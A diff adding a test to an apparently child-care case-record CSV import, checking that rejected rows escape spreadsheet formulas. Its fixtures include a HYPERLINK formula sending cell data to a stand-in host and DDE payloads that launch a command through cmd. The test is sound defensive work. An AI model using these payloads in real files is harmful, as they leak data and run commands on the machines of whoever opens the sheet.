@@ -511,3 +511,25 @@ def test_an_import_that_doubles_the_store_keeps_every_index_as_it_was(known, tmp
     assert "episodes_by_start" in plan
     assert known.conn.execute("SELECT count(*) FROM episodes WHERE start_date >= '2026-01-01'"
                               ).fetchone()[0] == 1200
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_rejects_file_writes_formulas_as_text_and_negative_numbers_as_numbers(known, tmp_path):
+    rows = [HEADER,
+            ["EHM1", FORMULA, "", COUNCIL, "", "", "", "", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
+            ["EHM2", "-7", "", COUNCIL, "", "", "", "", "-2+3+cmd|' /C calc'!A0", "-1.5"]]
+    s = cases.import_episodes(known, write_csv(tmp_path / "e.csv", rows), rejects_dir=tmp_path,
+                              today=TODAY)
+    assert s.rejected == 2
+    rejects = {r["row"]: r for r in read_rejects(s.rejects_file)}
+    assert rejects["2"]["value"] == "'" + FORMULA
+    assert rejects["2"]["START DATE"] == "'" + FORMULA
+    assert rejects["2"]["Child name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rejects["3"]["value"] == rejects["3"]["START DATE"] == "-7"  # a number stays one
+    assert rejects["3"]["Date of Birth"] == "-1.5"
+    assert rejects["3"]["Child name"] == "'-2+3+cmd|' /C calc'!A0"
+    for r in rejects.values():
+        assert not any(v.startswith(("=", "@", "+")) for v in r.values())
+    assert list(tmp_path.glob(".*.part")) == []  # written whole, then moved into place
